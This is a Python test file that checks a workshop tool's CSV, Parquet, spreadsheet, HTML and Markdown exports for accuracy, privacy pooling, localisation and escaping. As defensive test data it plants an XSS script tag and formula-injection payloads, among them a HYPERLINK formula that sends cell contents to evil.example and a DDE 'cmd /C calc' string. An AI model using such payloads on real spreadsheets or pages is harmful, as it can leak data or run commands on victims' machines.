"""Exports open in the tools leaders use, match the summary, and keep the privacy rules."""

from __future__ import annotations

import html
import re
from datetime import datetime
from pathlib import Path

import duckdb
import openpyxl
import pandas as pd
import pytest
from markdown_it import MarkdownIt

from tests.conftest import Ran, make_room, run_cli
from workshop import actions, analytics, exports, i18n, review
from workshop.model import Phase
from workshop.store import Store
from workshop.text import WORD_JOINER

SENSITIVE = "Only Legal person"
# The workbook's sheets a leader reads, before the raw tables.
READABLE = [
    "Summary",
    "What people said",
    "Practices shared",
    "Stories of practice",
    "Who can help whom",
    "Actions and outcomes",
    "Moderation record",
]
MARKDOWN = MarkdownIt("commonmark").enable("table")


@pytest.fixture
def session(store):
    room = make_room(store, participants=0)
    people = [room.join(f"Sales {i}", "Sales") for i in range(3)] + [room.join(SENSITIVE, "Legal")]
    room.to(Phase.SHARE)
    actions.share(store, people[0], room.theme_ids[0], "Customers <script>alert(1)</script> first | really")
    actions.share(store, people[3], room.theme_ids[1], "Contracts take too long")
    room.to(Phase.PROPOSE)
    top = actions.propose(store, people[1], room.theme_ids[0], "Contract negotiation skills")
    actions.propose(store, people[2], room.theme_ids[0], "Hidden rude need")
    room.to(Phase.VOTE)
    for p in people:
        actions.place_dot(store, p, top)
    actions.create_follow_up(
        store, room.access, "Negotiation training", [top], owner="HR", due_date="2027-02-01"
    )
    return room


def test_csv_parquet_and_xlsx_open_and_match_the_summary(store, session, tmp_path: Path):
    summary = analytics.summary(store, session.workshop.id)
    csv = exports.export_tables(store, session.workshop.id, "csv", tmp_path / "csv", 3)
    parquet = exports.export_tables(store, session.workshop.id, "parquet", tmp_path / "parquet", 3)
    (xlsx,) = exports.export_tables(store, session.workshop.id, "xlsx", tmp_path / "xlsx", 3)
    sheets = openpyxl.load_workbook(xlsx).sheetnames
    assert {p.stem for p in csv} == {p.stem for p in parquet} == set(sheets[len(READABLE) :])
    for name, count in [
        ("participants", summary["participants"]),
        ("dots", summary["dots_total"]),
        ("statements", summary["statements"]),
        ("follow_ups", 1),
    ]:
        assert len(pd.read_csv(tmp_path / "csv" / f"{name}.csv")) == count
        assert (
            duckdb.sql(f"SELECT count(*) FROM '{tmp_path / 'parquet' / name}.parquet'").fetchall()[0][0]
            == count
        )
        assert len(pd.read_excel(xlsx, sheet_name=name)) == count


def test_exports_leave_out_hashes_and_pool_small_teams(store, session, tmp_path: Path):
    exports.export_tables(store, session.workshop.id, "csv", tmp_path / "csv", 3)
    exports.export_tables(store, session.workshop.id, "parquet", tmp_path / "parquet", 3)
    (xlsx,) = exports.export_tables(store, session.workshop.id, "xlsx", tmp_path / "xlsx", 3)
    everything = "".join(p.read_text() for p in (tmp_path / "csv").glob("*.csv"))
    assert "scrypt$" not in everything and "token_hash" not in everything
    for participants in (
        pd.read_csv(tmp_path / "csv" / "participants.csv"),
        pd.read_parquet(tmp_path / "parquet" / "participants.parquet"),
        pd.read_excel(xlsx, sheet_name="participants"),
    ):
        # Legal's one person would be the pool: Sales (three) joins it, and nobody is apart.
        assert sorted(participants["team"].unique()) == ["other"]
    summary = review.session_summary(store, session.workshop.id, 3)
    markdown = exports.markdown_report(summary, [])
    assert "Legal" not in markdown


def test_html_report_is_self_contained_and_shows_text_as_text(store, session):
    summary = review.session_summary(store, session.workshop.id, 3)
    page = exports.html_report(summary, store.follow_ups([session.workshop.id]))
    assert not re.search(r"<(script|link)[^>]+(src|href)=[\"']?https?://", page)
    assert "Contract negotiation skills" in page and "Negotiation training" in page
    assert "<script>alert(1)</script>" not in page and "&lt;script&gt;alert(1)&lt;/script&gt;" in page
    assert ">Legal<" not in page and "&quot;Legal&quot;" not in page


def test_markdown_report_escapes_participant_text(store, session):
    summary = review.session_summary(store, session.workshop.id, 3)
    text = exports.markdown_report(summary, store.follow_ups([session.workshop.id]))
    assert "| 1 | Contract negotiation skills |" in text
    assert "**Negotiation training** (planned, owner HR, due 2027-02-01)" in text
    page = MARKDOWN.render(text)
    assert "<script>" not in page and "Customers &lt;script&gt;alert(1)&lt;/script&gt; first | really" in page


def test_report_and_export_from_the_command_line(tmp_path: Path):
    db = tmp_path / "cli.duckdb"

    def cli(*args: str) -> Ran:
        return run_cli(*args, "--db", str(db))

    code = __import__("json").loads(cli("demo", "--participants", "8", "--json").stdout)["code"]
    assert cli("report", code, "--out", str(tmp_path / "r.html")).returncode == 0
    assert cli("report", code, "--out", str(tmp_path / "r.md")).returncode == 0
    assert "Strategy 2027" in (tmp_path / "r.md").read_text()
    done = cli("export", code, "--format", "parquet", "--out", str(tmp_path / "out"))
    assert done.returncode == 0 and (tmp_path / "out" / "needs.parquet").exists()
    wrong = cli("report", code, "--out", str(tmp_path / "r.pdf"))
    assert wrong.returncode == 2 and "--out must end in .html or .md." in wrong.stderr


HOSTILE_CELLS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "=1+2",
    "+cmd|' /C calc'!A0",
    "@SUM(1,1)",
    "-2+3",
    "\tTab first",
    "\rReturn first",
]


@pytest.fixture
def planted(store):
    """A workshop whose needs, statements and team name are each a spreadsheet formula."""
    room = make_room(store, participants=0)
    people = [room.join(f"Person {i}", "=cmd|' /C calc'!A0") for i in range(3)]
    room.to(Phase.SHARE)
    for person, text in zip(people * 3, HOSTILE_CELLS, strict=False):
        actions.share(store, person, room.theme_ids[0], f"{text} said")
    room.to(Phase.PROPOSE)
    needs = [
        actions.propose(store, people[i % 3], room.theme_ids[0], text) for i, text in enumerate(HOSTILE_CELLS)
    ]
    room.to(Phase.VOTE)
    actions.place_dot(store, people[0], needs[0])
    return room


def test_no_exported_cell_is_a_formula_and_the_text_stays_readable(store, planted, tmp_path: Path):
    (xlsx,) = exports.export_tables(store, planted.workshop.id, "xlsx", tmp_path / "xlsx", 3)
    book = openpyxl.load_workbook(xlsx)
    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    triggered = [c for c in cells if isinstance(c.value, str) and c.value[:1] in "=+-@\t\r"]
    assert all(c.data_type == "s" and c.quotePrefix for c in triggered)
    raw = [c for c in triggered if c.parent.title not in READABLE]
    # Five needs, five statements and three team cells (a leading tab or return is trimmed on input).
    assert len(raw) == 13
    # Read as people read them too: the ranking, what people said and their teams.
    assert len(triggered) > len(raw)
    needs = pd.read_excel(xlsx, sheet_name="needs")
    assert needs["text"].tolist() == HOSTILE_CELLS[:5] + ["Tab first", "Return first"]
    assert needs["id"].dtype.kind == "i"  # numbers stay numbers


def test_csv_cells_that_a_spreadsheet_would_evaluate_begin_with_a_quote(store, planted, tmp_path: Path):
    import csv as csv_module

    written = exports.export_tables(store, planted.workshop.id, "csv", tmp_path / "csv", 3)
    for path in written:
        with path.open(newline="") as f:
            for row in csv_module.reader(f):
                assert not [v for v in row if v[:1] in ("=", "+", "@", "\t", "\r")], path.name
                assert not [v for v in row if v.startswith("-") and not re.fullmatch(r"-\d+(\.\d+)?", v)]
    needs = pd.read_csv(tmp_path / "csv" / "needs.csv")
    assert "'=1+2" in needs["text"].tolist() and "'@SUM(1,1)" in needs["text"].tolist()
    assert needs["id"].dtype.kind == "i" and needs["theme_id"].dtype.kind == "i"
    (parquet,) = [
        p
        for p in exports.export_tables(store, planted.workshop.id, "parquet", tmp_path / "pq", 3)
        if p.stem == "needs"
    ]
    assert "=1+2" in pd.read_parquet(parquet)["text"].tolist()  # Parquet keeps the exact text


def test_a_finnish_workshops_exports_and_reports_are_finnish(store, session, tmp_path: Path):
    """In Finnish: the pooled team is "muut" in XLSX and CSV, the reports' practices table is
    headed in Finnish, and a mean rating is written with a decimal comma on Review's tables."""
    session.to(Phase.SHARE)
    practice = "We look at one deal a week together"
    actions.share_practice(store, session.people[0], session.theme_ids[0], "Weekly deal reviews", practice)
    session.to(Phase.VOTE)
    need = int(analytics.needs_ranking(store, session.workshop.id)["id"].iloc[0])
    for person, importance in zip(session.people, (4, 5, 5, 4), strict=True):
        actions.rate(store, person, need, importance, 2)
    with i18n.using("fi"):
        (xlsx,) = exports.export_tables(store, session.workshop.id, "xlsx", tmp_path / "xlsx", 3)
        exports.export_tables(store, session.workshop.id, "csv", tmp_path / "csv", 3)
        summary = review.session_summary(store, session.workshop.id, 3)
        markdown = exports.markdown_report(summary, [])
        page = exports.html_report(summary, [])
        shown = exports.labelled(summary.needs_table.drop(columns=["id"]))
    sheet = pd.read_excel(xlsx, sheet_name=None)
    (participants,) = [frame for frame in sheet.values() if "liittynyt" in frame.columns]
    assert sorted(participants["tiimi"].unique()) == ["muut"]
    assert sorted(pd.read_csv(tmp_path / "csv" / "participants.csv")["team"].unique()) == ["muut"]
    assert "| kuvaus |" in markdown and "description" not in markdown
    assert "<th>kuvaus</th>" in page and "<th>description</th>" not in page
    assert shown["tärkeys"].iloc[0] == "4,5" and shown["osaaminen"].iloc[-1] == "–"


def test_the_workbook_opens_on_a_summary_a_leader_reads_first(store, session, tmp_path: Path):
    """Summary first (headline numbers, the ranking with its figures, the actions), then the
    detail with names and no ids, then the raw tables; in the reader's language."""
    (xlsx,) = exports.export_tables(store, session.workshop.id, "xlsx", tmp_path / "en", 3)
    book = openpyxl.load_workbook(xlsx)
    assert book.sheetnames[: len(READABLE)] == READABLE
    summary = [[v for v in row if v is not None] for row in book["Summary"].iter_rows(values_only=True)]
    assert summary[0] == [session.workshop.title]
    assert ["Joined", 4] in summary and ["Dots placed", 4] in summary
    header = summary.index(
        [
            "rank",
            "need",
            "theme",
            "dots",
            "backers",
            "importance",
            "capability",
            "gap",
            "consensus",
            "what people said",
        ]
    )
    assert summary[header + 1][:5] == [
        1,
        "Contract negotiation skills",
        session.workshop.themes[0].title,
        4,
        0,
    ]
    assert ["Negotiation training", "HR", datetime(2027, 2, 1), "planned"] in summary
    said = pd.read_excel(xlsx, sheet_name="What people said")
    assert list(said.columns) == ["theme", "statement", "team", "agree", "disagree", "pass"]
    assert "Contracts take too long" in set(said["statement"])
    for name in READABLE:
        columns = pd.read_excel(xlsx, sheet_name=name).columns
        assert not [c for c in columns if str(c) == "id" or str(c).endswith("_id")], name

    with i18n.using("fi"):
        (xlsx,) = exports.export_tables(store, session.workshop.id, "xlsx", tmp_path / "fi", 3)
    book = openpyxl.load_workbook(xlsx)
    assert book.sheetnames[:2] == ["Yhteenveto", "Mitä sanottiin"]
    assert len({name.casefold() for name in book.sheetnames}) == len(book.sheetnames)
    rows = [[v for v in row if v is not None] for row in book["Yhteenveto"].iter_rows(values_only=True)]
    assert ["Liittyneet", 4] in rows and next(r for r in rows if r[:1] == ["sija"])[:4] == [
        "sija",
        "tarve",
        "teema",
        "pisteet",
    ]
    assert ["Negotiation training", "HR", datetime(2027, 2, 1), "suunniteltu"] in rows


TYPED = [  # the first three are quoted under their theme, where a line begins a block
    "# not a heading",
    "1. not a list",
    "*not bold* _nor this_ but snake_case stays [no](link) <b>no tag</b> `no code` &amp; A&B",
    "Cross-team stand-ups: 2 (of 5).",
    "basics: reading",
]


def test_the_markdown_report_reads_as_typed_and_renders_as_typed(store: Store, tmp_path: Path):
    """Escapes only where Markdown would read markup: the file reads as written, and a
    CommonMark reader with GitHub's tables shows every text exactly, with no markup made."""
    room = make_room(store, participants=3)
    room.to(Phase.SHARE)
    for person, text in zip(room.people * 2, TYPED, strict=False):
        actions.share(store, person, room.theme_ids[0], text)
    room.to(Phase.PROPOSE)
    for person, text in zip(room.people * 2, TYPED, strict=False):
        actions.propose(store, person, room.theme_ids[1], text)
    room.to(Phase.RESULTS)
    text = exports.markdown_report(review.session_summary(store, room.workshop.id, 3), [])
    assert "Cross-team stand-ups: 2 (of 5)." in text and "basics: reading" in text and "snake_case" in text
    assert "(placed on one of the first 3, or taken back from another)." in text
    page = MARKDOWN.render(text.replace(WORD_JOINER, ""))
    for tag in ("<em>", "<strong>", "<a ", "<code>", "<b>", "<ol", "<ul"):
        assert tag not in page, tag
    assert page.count("<h1>") == 1
    shown = html.unescape(re.sub(r"<[^>]+>", "", page))
    for i, typed in enumerate(TYPED):
        assert shown.count(typed) == (2 if i < 3 else 1), typed  # quoted, and in the needs' table
